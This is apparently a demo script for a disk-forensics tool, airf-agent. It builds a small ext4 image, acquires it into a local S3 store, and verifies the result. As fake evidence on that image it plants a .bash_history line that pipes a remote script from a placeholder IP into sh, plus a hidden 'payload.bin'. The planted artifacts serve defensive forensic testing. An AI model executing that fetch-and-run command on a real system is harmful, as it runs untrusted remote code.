#!/usr/bin/env bash
# The main job end to end on embedded defaults: start a local S3 server (Garage), make a loop
# device with a small ext4 filesystem, acquire it with airf-agent into S3, verify it, and print
# the result. Everything is local to this machine and removed afterwards.
set -euo pipefail
cd "$(dirname "$0")/.."
. tests/scripts/lib.sh
[ "$(id -u)" = 0 ] || die "run as root (loop devices and block-device reads need it)"

# The agent builds while install-deps builds Garage on a fresh machine: each build ends in long
# single-threaded steps (the last crates, the link), which the other fills.
log "building airf-agent (release) while the demo's dependencies install"
cargo build --release --quiet -p airf-agent &
build=$!
tests/scripts/install-deps.sh demo || { kill "$build" 2>/dev/null; die "installing the demo's dependencies failed"; }
wait "$build" || die "cargo build --release -p airf-agent failed"
agent=$(realpath "${CARGO_TARGET_DIR:-target}")/release/airf-agent

work=$(mktemp -d /tmp/airf-demo.XXXXXX)
loopdev=""
cleanup() {
  if [ -n "$loopdev" ]; then losetup -d "$loopdev" 2>/dev/null || true; fi
  tests/scripts/garage.sh stop "$work/garage" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT

log "starting Garage (S3-compatible) on 127.0.0.1"
tests/scripts/garage.sh start "$work/garage" >/dev/null
# shellcheck source=/dev/null  # written at run time by garage.sh start
. "$work/garage/env"

log "making a 64 MiB ext4 disk with a few files on a loop device"
mkdir -p "$work/root/home/alice" "$work/root/var/tmp/.x"
echo "curl http://203.0.113.7/x.sh | sh" >"$work/root/home/alice/.bash_history"
head -c 4M /dev/urandom >"$work/root/var/tmp/.x/payload.bin"
mkfs.ext4 -q -F -d "$work/root" "$work/disk.img" 64M
loopdev=$(losetup --find --show --read-only "$work/disk.img")

log "acquiring $loopdev into s3://$AIRF_TEST_BUCKET/evidence/"
set +e
"$agent" disk "$loopdev" --to "s3://$AIRF_TEST_BUCKET/evidence/" --case DEMO-1 --json >"$work/result.json"
rc=$?
set -e
cat "$work/result.json"
[ "$rc" = 0 ] || die "acquisition failed (exit $rc)"
manifest=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["sources"][0]["manifest"]["location"])' "$work/result.json")

log "verifying $manifest"
"$agent" verify "$manifest"
log "device sha256: $(sha256sum "$loopdev" | cut -d' ' -f1)"
log "demo complete"
